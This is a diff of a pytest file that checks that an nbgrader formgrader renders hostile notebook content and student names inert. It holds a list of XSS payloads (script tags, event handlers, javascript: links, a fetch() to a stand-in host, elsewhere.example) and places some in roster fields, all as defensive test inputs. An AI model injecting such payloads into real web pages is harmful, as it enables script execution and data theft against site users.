@@ -9,15 +9,15 @@ import base64
 import copy
 import os
 import secrets
-import socket
-import subprocess
 import sys
-import threading
+from urllib.parse import unquote
 
 import nbformat
 import pytest
+import server_process
 from bs4 import BeautifulSoup
 from classroom import Classroom, cell
+from hostile.texts import ATTACKS, ELSEWHERE, INJECTED, RUN
 from nbformat.v4 import new_code_cell, new_markdown_cell, new_output, new_raw_cell
 from site_browser import Traffic
 
@@ -30,30 +30,6 @@ from grading.settings import settings
 pytestmark = pytest.mark.filterwarnings("ignore::sqlalchemy.exc.SAWarning")
 NAME = "int8-weights"
 STUDENT = "mallory"
-ELSEWHERE = "http://elsewhere.example"  # where a page that is not inert would send something
-RUN = f"document.documentElement.dataset.ran=1;fetch('{ELSEWHERE}/ran')"
-ATTACKS = {
-    "script": f"<script>{RUN}</script>",
-    "remote-script": f'<script src="{ELSEWHERE}/x.js"></script>',
-    "closing": f"</pre></code></div></textarea></style></title><script>{RUN}</script>",
-    "handler": f'<img src="x" onerror="{RUN}">',
-    "svg": f'<svg onload="{RUN}"><script>{RUN}</script></svg>',
-    "mathml": f'<math><mtext><style><img src=x onerror="{RUN}"></style></mtext></math>',
-    "iframe": f'<iframe src="javascript:{RUN}"></iframe><iframe srcdoc="<script>1</script>">',
-    "object": f'<object data="{ELSEWHERE}/o"></object><embed src="{ELSEWHERE}/e">',
-    "form": f'<form action="{ELSEWHERE}"><input autofocus onfocus="{RUN}"><button>go</button>',
-    "style": f'<style>@import "{ELSEWHERE}/s.css"; body {{ display: none }}</style>',
-    "style-attribute": f'<p style="background: url({ELSEWHERE}/b.png)">p</p>',
-    "link": f'<link rel="stylesheet" href="{ELSEWHERE}/l.css"><a href="javascript:{RUN}">a</a>',
-    "meta": f'<meta http-equiv="refresh" content="0; url={ELSEWHERE}/m"><base href="{ELSEWHERE}">',
-    "details": f'<details open ontoggle="{RUN}"><summary>s</summary></details>',
-    "media": f'<video poster="{ELSEWHERE}/v.png" src="{ELSEWHERE}/v" autoplay></video>',
-    "remote-picture": f'<img src="{ELSEWHERE}/p.png" srcset="{ELSEWHERE}/q.png 2x">',
-    "namesakes": '<b id="bounds" class="full-credit" name="submission_id">b</b>',
-    "ansi": f"\x1b[31m<script>{RUN}</script>\x1b[0m\x1b]0;title\x07\x1b[38;5;999999999999m",
-    "attribute": f'" onmouseover="{RUN}" x="',
-    "template": "{{ 7 * 7 }} {% raw %}",
-}
 MARKDOWN = {
     "markdown-link": f"[click](javascript:{RUN})",
     "data-link": "[click](data:text/html;base64,PHNjcmlwdD4xPC9zY3JpcHQ+)",
@@ -79,6 +55,14 @@ PNG = base64.b64decode(
     "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNk+A8AAQUBAScY42YAAAAASUVORK5CYII="
 )
 SVG = base64.b64encode(b"<svg xmlns='http://www.w3.org/2000/svg' onload='1'/>").decode()
+# Names of folders that are let in, and what a platform's roster may say of people.
+ENCODED = f"%3Cimg src=x onerror={RUN.partition(';')[0]}%3E"  # as addresses have it
+ODD = "o'dd & co; `x`${1} {{7+7}} &lt;img src=x onerror=1&gt; javascript:1"
+PEOPLE = {
+    STUDENT: {"first_name": ATTACKS["handler"], "last_name": ATTACKS["closing"]},
+    ENCODED: {},
+    ODD: {"first_name": ATTACKS["svg"], "last_name": "</a>{{ 7 * 7 }}", "email": ATTACKS["script"]},
+}
 ACTIVE = (
     *("script", "style", "link", "meta", "base", "template", "noscript", "portal"),
     *("iframe", "frame", "frameset", "object", "embed", "applet", "svg", "math"),
@@ -154,7 +138,11 @@ def room(tmp_path_factory, release):
     cell(nb, part.key).outputs = [new_output("stream", name="stdout", text=says)]
     solution = cell(nb, f"{part.key}-solution").metadata.nbgrader.grade_id
     with room.course.gradebook() as gradebook:
-        gradebook.update_or_create_student(STUDENT)
+        for student, about in PEOPLE.items():
+            gradebook.update_or_create_student(student, **about)
+            room.hand_in(student, NAME, room.released(NAME))
+        others = [gradebook.update_or_create_submission(NAME, one) for one in (ODD, ENCODED)]
+        room.others = [one.notebooks[0].id for one in others]
         submission = gradebook.update_or_create_submission(NAME, STUDENT)
         for grade in submission.notebooks[0].grades:
             grade.auto_score = 2 if grade.name == part.key else 0
@@ -163,9 +151,10 @@ def room(tmp_path_factory, release):
                 comment.manual_comment = f"Well *done*. {ATTACKS['script']}"
         gradebook.db.commit()
         room.submission = submission.notebooks[0].id
-    graded = room.course.graded(STUDENT, NAME)
-    graded.parent.mkdir(parents=True)
-    nbformat.write(nb, graded)
+    for student in PEOPLE:
+        file = room.course.graded(student, NAME)
+        file.parent.mkdir(parents=True)
+        nbformat.write(nb if student == STUDENT else room.released(NAME), file)
     return room
 
 
@@ -294,40 +283,15 @@ def test_the_policy_would_hold_if_all_else_failed(page, browser, tmp_path):
 @pytest.fixture(scope="module")
 def formgrader(room, tmp_path_factory):
     """The address of a submission in a formgrader, started in the course folder."""
-    with socket.create_server(("127.0.0.1", 0)) as free:
-        port = free.getsockname()[1]
     home, token = tmp_path_factory.mktemp("home"), secrets.token_hex()
     places = ("JUPYTER_CONFIG_DIR", "JUPYTER_DATA_DIR", "JUPYTER_RUNTIME_DIR", "IPYTHONDIR")
-    command = [sys.executable, "-m", "jupyter_server", "--no-browser", "--allow-root"]
-    command += ["--ip=127.0.0.1", f"--port={port}", "--ServerApp.port_retries=0"]
+    given = os.environ | {name: str(home / name) for name in places} | {"JUPYTER_TOKEN": token}
+    command = [sys.executable, "-m", "jupyter_server", *server_process.OPTIONS]
     command += [
         "--ServerApp.jpserver_extensions={'nbgrader.server_extensions.formgrader': True}",
     ]
-    with subprocess.Popen(
-        command,
-        cwd=room.folder,
-        env=os.environ | {name: str(home / name) for name in places} | {"JUPYTER_TOKEN": token},
-        stderr=subprocess.PIPE,
-        text=True,
-    ) as server:
-        ready, lines = threading.Event(), []
-
-        def listen():
-            for line in server.stderr:
-                lines.append(line)
-                if f"127.0.0.1:{port}/" in line:
-                    ready.set()
-            ready.set()
-
-        listener = threading.Thread(target=listen, daemon=True)
-        listener.start()
-        try:
-            assert ready.wait(60), "".join(lines)
-            assert server.poll() is None, "".join(lines)
-            yield f"http://127.0.0.1:{port}", token
-        finally:
-            server.terminate()
-            listener.join(60)
+    with server_process.serving(command, given, room.folder) as address:
+        yield address, token
 
 
 def test_a_page_names_the_parts_and_leaves_out_what_nobody_reads(room):
@@ -373,6 +337,44 @@ def test_in_the_formgrader_nothing_of_a_submission_runs(room, formgrader, browse
         one.decompose()
     assert active(notebook) == []
     assert len(notebook.find_all("img")) == 2 * len(ATTACKS)
+    context.close()
+
+
+def test_in_the_lists_of_the_formgrader_no_name_runs(room, formgrader, browser):
+    address, token = formgrader
+    context = browser.new_context()
+    dialogs = []
+    tab = context.new_page()
+    tab.goto(f"{address}/login?token={token}")
+    tab.wait_for_load_state("networkidle")
+    traffic = Traffic().listen(context)
+    tab.on("dialog", lambda one: (dialogs.append(one.message), one.dismiss()))
+    start = f"{address}/formgrader"
+    waiting = [f"{start}/manage_assignments", f"{start}/gradebook", f"{start}/manage_students"]
+    waiting += [f"{start}/submissions/{one}/" for one in room.others]
+    of_interest = (f"{start}/gradebook/{NAME}", f"{start}/manage_s")
+    seen, texts = set(), ""
+    while waiting:
+        place = waiting.pop(0)
+        seen.add(place)
+        tab.goto(place)
+        tab.wait_for_load_state("networkidle")
+        assert tab.evaluate("document.documentElement.dataset.ran") is None, place
+        assert tab.evaluate(INJECTED) == [], place
+        texts += tab.evaluate("document.body.innerText")
+        # As their own links name them, which the browser turns into addresses.
+        links = tab.evaluate("[...document.querySelectorAll('tbody a')].map((one) => one.href)")
+        more = [one for one in links if one.startswith(of_interest)]
+        waiting += [one for one in dict.fromkeys(more) if one not in {*seen, *waiting}]
+    assert dialogs == []
+    assert traffic.outside(address) == []
+    # Of a name that an address turns into another one there is no page.
+    assert {unquote(one) for one in seen if "%3C" in one} == {
+        f"{start}/manage_students/{unquote(ENCODED)}{rest}" for rest in ("", f"/{NAME}")
+    }
+    assert [one for one in traffic.wrong if "%3C" not in one and "404 (Not Found)" not in one] == []
+    for name in (ODD, ENCODED, *(text for about in PEOPLE.values() for text in about.values())):
+        assert name in texts
     context.close()
 
 
